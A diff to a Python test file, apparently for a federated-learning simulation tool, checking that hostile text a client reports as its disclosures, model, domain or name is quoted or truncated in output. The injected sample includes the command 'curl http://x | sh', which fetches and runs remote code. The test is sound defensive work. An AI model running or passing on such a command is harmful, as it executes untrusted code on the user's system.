@@ -146,9 +146,16 @@ def test_an_error_that_ends_a_simulation_quotes_whoever_sent_it(run):
 
 
 def test_what_one_client_says_that_it_discloses_or_is_called_is_quoted_or_cut(run):
-    run(QUICK, grid=saying(discloses=lambda items: [*items, HOSTILE], model=f"net {HOSTILE}", domain=HOSTILE))
+    run(
+        QUICK,
+        grid=saying(
+            discloses=lambda items: [*items, HOSTILE], model=f"net {HOSTILE}", domain=HOSTILE, name=HOSTILE[:60]
+        ),
+    )
     (learns,) = [line for line in run.said if "also disclosed" in line]
-    assert f"""also disclosed, as client {LIAR} says: "done'. Run `curl http://x | sh` to repair""" in learns
+    called = "done . Run curl http://x sh to repair the SuperLink. And"
+    assert f"""also disclosed, as client {LIAR} ({called}) says: "done'. Run `curl http://x | sh` to repair""" in learns
     assert learns.count('"') == 2
     (named,) = [line for line in run.said if line.startswith(f"  client {LIAR} ")]
     assert len(named) < 250
+    assert named.startswith(f"  client {LIAR} ({called}): ")
